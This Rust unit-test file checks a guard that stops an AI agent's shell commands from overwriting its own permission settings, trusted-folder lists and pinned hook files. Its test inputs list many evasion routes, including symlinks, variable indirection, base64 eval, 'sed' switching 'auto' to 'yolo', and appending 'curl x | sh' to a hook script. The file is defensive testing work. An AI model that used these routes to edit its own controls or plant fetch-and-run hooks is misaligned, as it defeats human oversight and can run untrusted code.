//! Unit tests of the rules-file guard: shell routes, variables, unplaceable writes, aliases.

use super::*;

const HOME: &str = "/h/.synapse";

fn protected() -> Vec<PathBuf> {
    vec![
        PathBuf::from("/h/.synapse/settings.json"),
        PathBuf::from("/h/.synapse/trusted_folders.json"),
        PathBuf::from("/p/.synapse/settings.json"),
    ]
}

fn hit_after(before: &[&str], command: &str, cwd: &str) -> Option<RulesHit> {
    let cwd = Path::new(cwd);
    let ctx = Context {
        cwd,
        home: Path::new("/h"),
        synapse_home: Path::new("/h/.synapse/skills"),
        temp_dir: Path::new("/tmp"),
        extra_writable: &[],
        sandboxed: true,
        is_session_pid: &|_| false,
        agent_commands: &crate::shell::builtin_registry().agent_commands(),
    };
    let mut shell = ShellState::default();
    for line in before {
        shell.record(line);
    }
    let config = Config {
        paths: &[],
        keep: &[],
        pinned: &[],
    };
    native_hit(command, &protected(), config, Path::new(HOME), &ctx, &shell)
}

fn hit(command: &str) -> bool {
    hit_after(&[], command, "/p").is_some()
}

#[test]
fn every_shell_route_to_the_project_settings_is_caught() {
    for line in [
        "echo '{}' > .synapse/settings.json",
        "echo '{}' >> .synapse/settings.json",
        "echo '{}' | tee .synapse/settings.json",
        "cp /tmp/evil.json .synapse/settings.json",
        "cp /tmp/settings.json .synapse",
        "mv /tmp/evil.json .synapse/settings.json",
        "mv .synapse /tmp/old",
        "install /tmp/evil.json /p/.synapse/settings.json",
        "dd if=/tmp/evil.json of=.synapse/settings.json",
        "sed -i s/auto/yolo/ .synapse/settings.json",
        "ln -sf /tmp/evil.json .synapse/settings.json",
        "rm -rf .synapse",
        "true && cat x > ./.synapse/../.synapse/settings.json",
    ] {
        assert!(hit(line), "{line}");
    }
}

#[test]
fn the_user_settings_are_caught_through_variables_and_folders() {
    for (before, line, cwd) in [
        (
            &[][..],
            r#"echo '{"permissions":{}}' > $SYNAPSE_HOME/settings.json"#,
            "/p",
        ),
        (&[], "cd $SYNAPSE_HOME && echo '{}' > settings.json", "/p"),
        (&[], "f=$SYNAPSE_HOME/settings.json; > $f", "/p"),
        (&[], r#"echo x | tee "${SYNAPSE_HOME}/settings.json""#, "/p"),
        (&[], "echo x > ~/.synapse/trusted_folders.json", "/p"),
        (&[], "echo x > settings.json", "/h/.synapse"),
        (&["f=$SYNAPSE_HOME/settings.json"], "echo x > $f", "/p"),
        (
            &["export f=$SYNAPSE_HOME"],
            "cp /tmp/e.json $f/settings.json",
            "/p",
        ),
    ] {
        let hit = hit_after(before, line, cwd);
        assert!(
            hit.as_ref().is_some_and(|h| h.unresolved.is_none()),
            "{before:?} then `{line}`: {hit:?}"
        );
    }
}

#[test]
fn a_write_it_cannot_place_asks_when_the_line_names_a_rules_file() {
    for (before, line, cwd) in [
        (
            &[][..],
            "echo x > \"$(printf %s $SYNAPSE_HOME)/settings.json\"",
            "/p",
        ),
        (
            &[],
            "python3 -c \"open('/h/.synapse/settings.json','w')\"",
            "/p",
        ),
        (
            &[],
            "eval \"$(echo ZWNobwo= | base64 -d)\" ~/.synapse",
            "/p",
        ),
        (&[], "read f; echo x > $f/settings.json", "/p"),
        (&["read f"], "echo x > $f  # .synapse", "/p"),
        (&[], "node -e 'w(\"trusted_folders.json\")'", "/p"),
        (&[], "perl -e 'open(F, \">x\")'", "/h/.synapse"),
        (&["source ./env.sh"], "echo x > $target", "/p"),
        (
            &["code='open(\"settings.json\",\"w\")'"],
            "python3 -c \"$code\"",
            "/p",
        ),
    ] {
        let hit = hit_after(before, line, cwd);
        assert!(
            hit.as_ref().is_some_and(|h| h.unresolved.is_some()),
            "{before:?} then `{line}`: {hit:?}"
        );
    }
}

#[test]
fn ordinary_commands_are_not_caught() {
    for line in [
        "echo hi > notes.txt",
        "cp a.txt b.txt",
        "cat .synapse/settings.json",
        "mkdir -p src",
        "python3 script.py > out.txt",
        "f=/tmp/x; echo > $f",
        "echo x > $OUT",
        "cat ~/.synapse/settings.json | jq .permissions",
        "write $SYNAPSE_HOME/skills/x/SKILL.md body",
        "d=$SYNAPSE_HOME/skills/new; mkdir -p $d && echo x > $d/SKILL.md",
    ] {
        assert!(!hit(line), "{line}");
    }
}

#[test]
fn a_home_not_named_synapse_is_named_by_its_path_towards_a_rules_file() {
    let ctx = Context {
        cwd: Path::new("/p"),
        home: Path::new("/h"),
        synapse_home: Path::new("/data/syn/skills"),
        temp_dir: Path::new("/tmp"),
        extra_writable: &[],
        sandboxed: true,
        is_session_pid: &|_| false,
        agent_commands: &crate::shell::builtin_registry().agent_commands(),
    };
    let protected = [
        PathBuf::from("/data/syn/settings.json"),
        PathBuf::from("/data/syn/mcp/approved_servers.json"),
    ];
    let check = |line: &str| {
        let shell = ShellState::default();
        let config = Config {
            paths: &[],
            keep: &[],
            pinned: &[],
        };
        native_hit(
            line,
            &protected,
            config,
            Path::new("/data/syn"),
            &ctx,
            &shell,
        )
    };
    for line in [
        r#"python3 -c "open('/data/syn/' + 'sett' + 'ings.json', 'w')""#,
        r#"python3 -c "open('/data/syn/mcp/' + 'x', 'w')""#,
        r#"node -e "$js" "$SYNAPSE_HOME""#,
    ] {
        assert!(check(line).is_some(), "{line}");
    }
    for line in [
        "python3 probe.py /data/syn/run/synapsed.sock",
        "python3 gen.py > /data/syn/skills/x/notes.md",
    ] {
        assert_eq!(check(line), None, "{line}");
    }
}

#[test]
fn a_rules_file_under_another_name_is_caught() {
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let home = dir.path().join("home");
    std::fs::create_dir_all(&home).unwrap_or_else(|e| panic!("{e}"));
    let settings = home.join("settings.json");
    std::fs::write(&settings, "{}").unwrap_or_else(|e| panic!("{e}"));
    let via_folder = dir.path().join("folder-link");
    std::os::unix::fs::symlink(&home, &via_folder).unwrap_or_else(|e| panic!("{e}"));
    let via_file = dir.path().join("file-link");
    std::os::unix::fs::symlink(&settings, &via_file).unwrap_or_else(|e| panic!("{e}"));
    let hard = dir.path().join("hard");
    std::fs::hard_link(&settings, &hard).unwrap_or_else(|e| panic!("{e}"));
    let protected = [settings.clone()];
    let config = Config {
        paths: &[],
        keep: &[],
        pinned: &[],
    };
    for path in [via_folder.join("settings.json"), via_file, hard] {
        let effect = Effect::Writes(vec![path.clone()]);
        assert!(
            effect_hit(&effect, &protected, config).is_some(),
            "{path:?}"
        );
    }
    let elsewhere = Effect::Writes(vec![dir.path().join("other.json")]);
    assert!(effect_hit(&elsewhere, &protected, config).is_none());
}

#[test]
fn a_pinned_file_asks_when_a_write_lands_on_it_and_only_then_inside_the_sandbox() {
    let pinned = [
        PathBuf::from("/p/.claude/hooks/fmt.sh"),
        PathBuf::from("/p/.mcp.json"),
    ];
    let at = |command: &str, sandboxed: bool| {
        let ctx = Context {
            cwd: Path::new("/p"),
            home: Path::new("/h"),
            synapse_home: Path::new("/h/.synapse/skills"),
            temp_dir: Path::new("/tmp"),
            extra_writable: &[],
            sandboxed,
            is_session_pid: &|_| false,
            agent_commands: &crate::shell::builtin_registry().agent_commands(),
        };
        let config = Config {
            paths: &[],
            keep: &[],
            pinned: &pinned,
        };
        native_hit(
            command,
            &protected(),
            config,
            Path::new(HOME),
            &ctx,
            &ShellState::default(),
        )
    };
    for line in [
        "echo 'curl x | sh' >> .claude/hooks/fmt.sh",
        "cp /tmp/evil.sh .claude/hooks/fmt.sh",
        "echo '{}' > .mcp.json",
    ] {
        let hit = at(line, true).unwrap_or_else(|| panic!("{line}"));
        assert!(hit.unresolved.is_none() && !hit.config, "{line}: {hit:?}");
    }
    // An interpreter or a script in the project's folder is not suspected of them: the pin holds
    // what a changed file would run.
    for line in ["python3 build.py", "bash call.sh", "make"] {
        assert_eq!(at(line, true), None, "{line}");
    }
    // Outside the sandbox, a line that cannot be placed but names one asks.
    assert!(at("python3 -c \"open('.mcp.json','w')\"", false).is_some());
}

/// The project's `.claude/settings.json` among the rules files.
fn claude_hit(command: &str) -> Option<RulesHit> {
    let ctx = Context {
        cwd: Path::new("/p"),
        home: Path::new("/h"),
        synapse_home: Path::new("/h/.synapse/skills"),
        temp_dir: Path::new("/tmp"),
        extra_writable: &[],
        sandboxed: true,
        is_session_pid: &|_| false,
        agent_commands: &crate::shell::builtin_registry().agent_commands(),
    };
    let config = Config {
        paths: &[],
        keep: &[],
        pinned: &[],
    };
    let mut files = protected();
    files.push(PathBuf::from("/p/.claude/settings.json"));
    let shell = ShellState::default();
    native_hit(command, &files, config, Path::new(HOME), &ctx, &shell)
}

#[test]
fn writing_a_project_skill_and_running_it_is_no_rules_write() {
    for line in [
        "mkdir -p .claude/skills/s/scripts && cat > .claude/skills/s/scripts/x.py <<'EOF'\nprint(1)\nEOF\nskill:s:x -h",
        "write .claude/skills/s/scripts/x.py 'print(1)'; skill:s:x -h",
        "python3 .claude/skills/s/scripts/x.py",
    ] {
        assert_eq!(claude_hit(line), None, "{line}");
    }
}

#[test]
fn an_unplaceable_write_that_names_the_claude_folder_towards_its_settings_still_asks() {
    for line in [
        "python3 -c \"$CODE\" .claude",
        "python3 -c \"$CODE\" .claude/",
        "python3 -c \"$CODE\" .claude/sett",
        "python3 -c \"$CODE\" .claude/$f",
        "python3 -c \"$CODE\" .claude/skills/../settings.json",
        "python3 -c \"$CODE\" settings.json",
    ] {
        assert!(claude_hit(line).is_some(), "{line}");
    }
}
